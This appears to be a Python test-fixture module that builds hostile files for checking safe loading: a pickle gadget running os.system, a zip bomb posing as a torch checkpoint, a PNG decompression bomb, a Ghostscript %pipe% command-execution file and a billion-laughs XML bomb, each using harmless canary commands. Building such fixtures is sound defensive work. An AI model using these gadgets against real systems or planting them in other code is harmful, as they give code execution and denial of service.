"""Files that attack who reads them."""

import os
import struct
import zipfile
import zlib
from pathlib import Path

import torch


class Call:
    """Calls a function when it is unpickled without care."""

    def __init__(self, function, *arguments) -> None:
        self.call = function, arguments

    def __reduce__(self):
        return self.call


def touch(canary: Path) -> Call:
    """Makes a file when it is unpickled without care."""
    return Call(os.system, f'touch {canary}')


def zip_bomb(path: Path, megabytes: int = 2048) -> Path:
    """A checkpoint of 1/1000 of its tensors' size."""
    torch.save({'weight': torch.zeros(4)}, path)
    with zipfile.ZipFile(path) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    with zipfile.ZipFile(path, 'w', zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            if not name.endswith('/data/0'):
                archive.writestr(name, content)
                continue
            with archive.open(name, 'w') as member:
                for _ in range(megabytes):
                    member.write(bytes(2**20))
    return path


def chunk(kind: bytes, data: bytes) -> bytes:
    """A part of a PNG file."""
    crc = struct.pack('>I', zlib.crc32(kind + data))
    return struct.pack('>I', len(data)) + kind + data + crc


def png(width: int, height: int, extra: bytes = b'') -> bytes:
    """A PNG without pixels, which is enough for whoever trusts its header."""
    header = chunk(b'IHDR', struct.pack('>IIBBBBB', width, height, 8, 2, 0, 0, 0))
    end = chunk(b'IDAT', zlib.compress(b'')) + chunk(b'IEND', b'')
    return b'\x89PNG\r\n\x1a\n' + header + extra + end


def text_bomb() -> bytes:
    """A PNG of 100 kB with 100 MB of text."""
    text = zlib.compress(bytes(100 * 2**20), 9)
    return png(8, 8, chunk(b'zTXt', b'a\0\0' + text))


def postscript(canary: Path) -> bytes:
    """A program that PIL would give to Ghostscript."""
    program = f'(%pipe%touch {canary}) (w) file showpage'
    return f'%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n{program}\n'.encode()


def entities() -> str:
    """A billion laughs: ten entities, each ten times the one before."""
    declared = ['<!ENTITY a0 "lol">'] + [
        f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10)
    ]
    return f'<!DOCTYPE annotation [{"".join(declared)}]><annotation>&a9;</annotation>'
